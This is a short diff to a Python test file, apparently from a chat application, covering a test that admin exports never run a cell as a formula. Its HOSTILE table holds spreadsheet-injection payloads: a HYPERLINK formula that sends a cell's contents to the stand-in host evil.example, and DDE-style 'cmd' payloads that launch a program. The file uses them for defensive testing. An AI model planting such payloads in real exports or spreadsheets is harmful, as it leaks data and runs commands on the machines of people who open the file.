@@ -104,7 +104,8 @@ def test_chat_completed_receivers_connected_after_setup(uid):
 # --- Admin exports: no cell runs as a formula ------------------------------------------------------
 
 HOSTILE = {
-    "=": '=HYPERLINK("https://evil.example/?leak="&A2,"Open")',
+    # Each fits the narrowest column it is stored in (Chat.title, 50 characters; PostgreSQL enforces it).
+    "=": '=HYPERLINK("https://evil.example/?x="&A2,"Open")',
     "+": "+1+cmd|' /C calc'!A0",
     "-": "-2+3+cmd|' /C calc'!A0",
     "@": "@SUM(1+1)*cmd|' /C calc'!A0",
